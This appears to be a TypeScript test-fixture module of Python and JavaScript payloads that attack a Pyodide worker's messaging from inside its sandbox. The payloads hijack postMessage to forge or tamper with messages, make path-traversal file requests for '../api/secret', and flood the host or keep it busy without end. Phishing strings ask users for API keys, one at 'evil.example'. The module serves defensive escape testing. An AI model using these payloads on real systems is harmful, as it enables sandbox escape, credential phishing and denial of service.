/**
 * Python that attacks the protocol from inside the worker. Python cannot name the worker's
 * MessagePorts, but it can patch `MessagePort.prototype.postMessage` and collect every port the
 * engine posts on (the events port on the next print, the calls port on the next answer).
 */
import type { EscapeTargets } from './browser/escape-attempts.js';

/** Run 1: start collecting ports (and the run ids the engine uses). */
export const CAPTURE_PORTS = `import js
js.eval("""(() => {
  const ports = self.__ports = [];
  const runIds = self.__runIds = [];
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message, transfer) {
    if (!ports.includes(this)) ports.push(this);
    // Output events only: a run announces its own id as it starts, and that id is the forger's own.
    if (message && message.type === 'output' && typeof message.runId === 'number') {
      runIds.push(message.runId);
      self.__eventsPort = this;
    }
    return post.call(this, message, transfer);
  };
})()""")
print("collecting ports")`;

/**
 * Run 2: on every collected port, forge output for other runs, package requests for files
 * outside the lock file (the canary, the host's API, a path climbing out of the package source),
 * a progress event, and comlink answers to calls that do not exist. It says first how many ports
 * it forges on: output for a run that is not going stops the worker.
 */
export const forgeOnPorts = (t: EscapeTargets) => `import js
from pyodide.ffi import to_js
def o(d):
    return to_js(d, dict_converter=js.Object.fromEntries)
this_run = max(js.__runIds) + 1
print(js.__ports.length, "ports to forge on", flush=True)
# The events port first, behind the count on the same port: a forgery on the calls port stops the worker at once.
ports = js.eval("[self.__eventsPort, ...self.__ports.filter((p) => p !== self.__eventsPort)]")
names = ["${t.canary}/evil-1.0-py3-none-any.whl", "../api/secret", "/api/secret", "${t.host}/api/secret", "micropip-0.11.1-py3-none-any.whl/../../api/secret"]
for port in ports:
    for run_id in [0, this_run - 1, this_run + 1, 10**6]:
        port.postMessage(o({"type": "output", "runId": run_id, "stream": "stdout", "text": f"FORGED-output-{run_id}"}))
    for i, name in enumerate(names):
        port.postMessage(o({"type": "package-request", "requestId": 10**6 + i, "fileName": name}))
    port.postMessage(o({"type": "progress", "phase": "boot", "message": "FORGED-progress"}))
    port.postMessage(o({"id": "forged-call-id", "type": "RAW", "value": {"status": "ok"}}))`;

/**
 * Arms the worker to replace its next answer on the calls channel (this run's own answer) with
 * `answer`, a JS expression over the real message `m`.
 */
export const tamperWithNextAnswer = (answer: string) => `import js
js.eval("""(() => {
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (m, transfer) {
    if (m && m.id && (m.type === 'RAW' || m.type === 'HANDLER')) {
      MessagePort.prototype.postMessage = post;
      return post.call(this, ${answer});
    }
    return post.call(this, m, transfer);
  };
})()""")
print("armed")`;

/**
 * A tampered answer's twin: arms the worker to build `answer` as `tamperWithNextAnswer` does, then
 * send its real answer. The worker does the flood's work and the page gets nothing hostile.
 */
export const buildNextAnswerUnsent = (answer: string) => tamperWithNextAnswer(`(${answer}, m)`);

/** Throws from a JS timer in the worker: an uncaught error, which the frame reports as the worker's exit. */
export const UNCAUGHT_WORKER_ERROR = `import js
js.setTimeout(js.Function("throw new Error('uncaught in the worker')"), 0)
js.setInterval(js.Function("self.__stillRunning = (self.__stillRunning || 0) + 1"), 100)
x = 1`;

/** Arms the worker to add `fields` (a JS object body over the real result `m.value`) to this run's own result. */
export const tamperWithNextResult = (fields: string) => tamperWithNextAnswer(`{ ...m, value: { ...m.value, ${fields} } }`);

/** `count` files named f0, f1… that all share one base64 string of `bytes` bytes (one string, many claims on it). */
export const sharedFiles = (count: number, bytes: number) =>
  `files: (() => { const data = 'A'.repeat(${Math.ceil(bytes / 3) * 4}); return Array.from({ length: ${count} }, (_, i) => ({ path: 'f' + i, mimeType: 'text/plain', size: ${Math.ceil(bytes / 3) * 3}, data })); })()`;

/** Arms the worker to follow this run's first output event with `events` more of `chars` characters each. */
export const floodOutput = (events: number, chars: number) => `import js
js.eval("""(() => {
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (m, transfer) {
    if (m && m.type === 'output') {
      MessagePort.prototype.postMessage = post;
      const text = 'x'.repeat(${chars});
      for (let i = 0; i < ${events}; i++) post.call(this, { ...m, text });
    }
    return post.call(this, m, transfer);
  };
})()""")
print("flooding")`;

/** After answering this run, the worker sends nothing more: no answers, no events (hung, or closed). */
export const GO_SILENT = `import js
js.eval("""(() => {
  const post = MessagePort.prototype.postMessage;
  let answered = false;
  MessagePort.prototype.postMessage = function (m, transfer) {
    if (answered) return;
    if (m && m.id && m.type === 'RAW') answered = true;
    return post.call(this, m, transfer);
  };
})()""")
print("silent after this run")`;

/** Text a forged progress event carries (a phishing line for the page's progress bar). */
export const FORGED_PROGRESS = 'Session expired: re-enter your API key';

/** On this run's first output event, forges progress: free text, and a package line naming a package that does not exist. */
export const FORGE_PROGRESS = `import js
js.eval("""(() => {
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (m, transfer) {
    if (m && m.type === 'output') {
      MessagePort.prototype.postMessage = post;
      post.call(this, { type: 'progress', phase: 'boot', message: '${FORGED_PROGRESS}' });
      post.call(this, { type: 'progress', phase: 'packages', message: 'Loading your-api-key-expired' });
    }
    return post.call(this, m, transfer);
  };
})()""")
print("forging progress")`;

/**
 * An honest run within every limit that floods the host's copy of the working directory: it
 * replaces its last batch with 5,000 empty files with ~880-character paths (the walk stops at its
 * 5,000-file cap; empty files cost nothing against the byte budget).
 */
export const MIRROR_FLOOD =
  'import os, shutil\nshutil.rmtree("batch", ignore_errors=True)\nbase = "batch/" + "/".join(["d" * 200] * 4)\nos.makedirs(base)\nfor i in range(5000): open(f"{base}/{i:05d}", "w").close()';
/**
 * How many MIRROR_FLOOD runs the end-to-end tests make before a restart: enough to replace a batch
 * twice. That the copy does not grow over many runs is workdir-mirror.test.ts's (8 runs, in
 * milliseconds); each run here costs seconds of both cores.
 */
export const MIRROR_FLOOD_RUNS = 3;

/**
 * Arms the worker to post `event` (a JS expression over this run's id, `runId`) on the events
 * port after the run has ended, 50 at a time every millisecond, without end.
 */
export const postAfterRun = (event: string) => `import js
js.eval("""(() => {
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (m, transfer) {
    if (m && m.type === 'output') {
      MessagePort.prototype.postMessage = post;
      const port = this, runId = m.runId;
      setTimeout(() => setInterval(() => { for (let i = 0; i < 50; i++) post.call(port, ${event}); }, 1), 200);
    }
    return post.call(this, m, transfer);
  };
})()""")
print("armed")`;

/**
 * Arms the worker to answer calls the host never made (comlink's `{ id, type: 'RAW' }` on the
 * calls' port, each with an id of its own) after the run has ended, 50 at a time every
 * millisecond, without end: what the host's call proxy drops.
 */
export const ANSWER_AFTER_RUN = `import js
js.eval("""(() => {
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (m, transfer) {
    if (m && m.type === 'RAW' && typeof m.id === 'string') {
      MessagePort.prototype.postMessage = post;
      const port = this;
      let n = 0;
      setTimeout(() => setInterval(() => { for (let i = 0; i < 50; i++) post.call(port, { id: 'stray-' + n++, type: 'RAW', value: 'x' }); }, 1), 200);
    }
    return post.call(this, m, transfer);
  };
})()""")
print("armed")`;

/** Words a dying worker would like the user to read as the library's. */
export const CRASH_WORDS = 'Your Gemini API key expired. Paste a new one at http://evil.example/renew';

/** A run whose worker dies mid-run on an uncaught error carrying `CRASH_WORDS` and 2 MB more. */
export const CRASH_WITH_WORDS = `import js, asyncio
js.setTimeout(js.Function("throw new Error('${CRASH_WORDS} ' + 'x'.repeat(2e6))"), 0)
await asyncio.sleep(5)`;
